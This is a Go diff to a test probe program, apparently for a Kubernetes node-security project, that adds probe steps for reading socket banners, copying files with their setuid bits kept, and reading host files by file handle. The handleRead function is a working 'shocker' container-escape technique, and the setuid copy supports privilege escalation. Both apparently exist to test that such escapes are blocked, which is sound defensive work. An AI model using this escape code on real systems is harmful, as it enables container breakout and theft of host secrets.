@@ -12,7 +12,7 @@
 //
 // STEPS-JSON is an array of steps, each an array of strings: the operation
 // and its arguments, e.g. [["read","/host/etc/key"],["connect","/run/x.sock"]];
-// $VARS in arguments are expanded from the environment.
+// ${VARS} in arguments are expanded from the environment.
 // Every step runs even if an earlier one failed; each reports ok/err. With
 // -hold the probe keeps running after the report (a DaemonSet's container
 // must not exit). `probe pause` is the pod sandbox's pause process.
@@ -43,6 +43,7 @@ import (
 	"strings"
 	"syscall"
 	"time"
+	"unsafe"
 
 	"github.com/daemonguard/daemonguard/test/internal/node/proberesult"
 )
@@ -114,10 +115,11 @@ func run(s []string) (st Step) {
 		st.Err = "empty step"
 		return st
 	}
-	// Arguments may name the downward API's environment ($POD_NAME...).
+	// Arguments may name the downward API's environment (${POD_NAME}...);
+	// only the braced form, so a shell script's "$@" stays as written.
 	args := make([]string, len(s)-1)
 	for i, a := range s[1:] {
-		args[i] = os.ExpandEnv(a)
+		args[i] = expandBraced(a)
 	}
 	out, err := op(s[0], args)
 	if len(out) > maxOut {
@@ -271,6 +273,50 @@ func op(name string, a []string) (string, error) {
 		req = append(req, pbString(2, "daemonguard-probe.sock")...)
 		req = append(req, pbString(3, a[1])...)
 		return grpcUnary(a[0], "/v1beta1.Registration/Register", req)
+	case "connect-read": // connect-read SOCKET: connect and read what the server says first
+		if err := need(a, 1); err != nil {
+			return "", err
+		}
+		c, err := net.DialTimeout("unix", a[0], 5*time.Second)
+		if err != nil {
+			return "", err
+		}
+		defer c.Close()
+		_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
+		b, err := io.ReadAll(io.LimitReader(c, 4096))
+		if len(b) > 0 {
+			return string(b), nil
+		}
+		return "", err
+	case "copy": // copy SRC DST MODE-octal: a file, with its mode (setuid included)
+		if err := need(a, 3); err != nil {
+			return "", err
+		}
+		b, err := os.ReadFile(a[0])
+		if err != nil {
+			return "", err
+		}
+		mode, err := strconv.ParseUint(a[2], 8, 32)
+		if err != nil {
+			return "", err
+		}
+		if err := os.WriteFile(a[1], b, 0o700); err != nil {
+			return "", err
+		}
+		// Chmod, not the create mode: the umask would drop the setuid bit.
+		if err := os.Chmod(a[1], os.FileMode(mode&0o777)|modeBits(mode)); err != nil {
+			return "", err
+		}
+		st, err := os.Stat(a[1])
+		if err != nil {
+			return "", err
+		}
+		return st.Mode().String(), nil
+	case "handle-read": // handle-read FS-FILE PATH: read PATH from the root of FS-FILE's filesystem, opened by file handle
+		if err := need(a, 2); err != nil {
+			return "", err
+		}
+		return handleRead(a[0], a[1])
 	case "note": // note ANYTHING: does nothing; labels the process's command line
 		return strings.Join(a, " "), nil
 	case "device-plugin": // device-plugin SOCKET ENDPOINT KUBELET-SOCK RESOURCE HOST-PATH CONTAINER-PATH
@@ -432,13 +478,18 @@ func ps() (string, error) {
 	if err != nil {
 		return "", err
 	}
-	var lines []string
+	var pids []int
 	for _, e := range entries {
-		pid, err := strconv.Atoi(e.Name())
-		if err != nil {
-			continue
+		if pid, err := strconv.Atoi(e.Name()); err == nil {
+			pids = append(pids, pid)
 		}
-		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
+	}
+	// In pid order: the node's daemons (low pids) come first, before the
+	// report's size limit.
+	sort.Ints(pids)
+	var lines []string
+	for _, pid := range pids {
+		b, err := os.ReadFile(filepath.Join("/proc", strconv.Itoa(pid), "cmdline"))
 		if err != nil || len(b) == 0 {
 			continue
 		}
@@ -817,4 +868,78 @@ func pbFields(b []byte) []int {
 		out = append(out, int(key>>3))
 	}
 	return out
+}
+
+// modeBits maps the setuid, setgid and sticky bits of an octal mode to Go's.
+func modeBits(mode uint64) os.FileMode {
+	var m os.FileMode
+	if mode&0o4000 != 0 {
+		m |= os.ModeSetuid
+	}
+	if mode&0o2000 != 0 {
+		m |= os.ModeSetgid
+	}
+	if mode&0o1000 != 0 {
+		m |= os.ModeSticky
+	}
+	return m
+}
+
+// handleRead opens the root directory of fsFile's filesystem by file
+// handle (open_by_handle_at, which needs CAP_DAC_READ_SEARCH: the
+// "shocker" escape) and reads path relative to it. The handle is ext4's
+// for inode 2 (the root) with generation 0, which ext4 does not check.
+// No mount is involved: the root is the filesystem's, outside any
+// container's (or node's) mount namespace.
+func handleRead(fsFile, path string) (string, error) {
+	mount, err := os.Open(fsFile)
+	if err != nil {
+		return "", err
+	}
+	defer mount.Close()
+	handle := struct {
+		bytes uint32
+		typ   int32
+		ino   uint32
+		gen   uint32
+	}{bytes: 8, typ: 1 /* FILEID_INO32_GEN */, ino: 2}
+	const sysOpenByHandleAt = 304 // amd64
+	fd, _, errno := syscall.Syscall(sysOpenByHandleAt, mount.Fd(), uintptr(unsafe.Pointer(&handle)), syscall.O_RDONLY|syscall.O_DIRECTORY)
+	if errno != 0 {
+		return "", fmt.Errorf("open_by_handle_at: %w", errno)
+	}
+	root := os.NewFile(fd, "/")
+	defer root.Close()
+	f, err := syscall.Openat(int(root.Fd()), strings.TrimPrefix(path, "/"), syscall.O_RDONLY, 0)
+	if err != nil {
+		return "", fmt.Errorf("openat %s: %w", path, err)
+	}
+	file := os.NewFile(uintptr(f), path)
+	defer file.Close()
+	b, err := io.ReadAll(io.LimitReader(file, 4096))
+	if err != nil {
+		return "", err
+	}
+	sum := sha256.Sum256(b)
+	return "sha256:" + hex.EncodeToString(sum[:]) + "\n" + string(b), nil
+}
+
+// expandBraced replaces ${NAME} with the environment variable NAME.
+func expandBraced(s string) string {
+	var b strings.Builder
+	for {
+		i := strings.Index(s, "${")
+		if i < 0 {
+			b.WriteString(s)
+			return b.String()
+		}
+		j := strings.Index(s[i:], "}")
+		if j < 0 {
+			b.WriteString(s)
+			return b.String()
+		}
+		b.WriteString(s[:i])
+		b.WriteString(os.Getenv(s[i+2 : i+j]))
+		s = s[i+j+1:]
+	}
 }
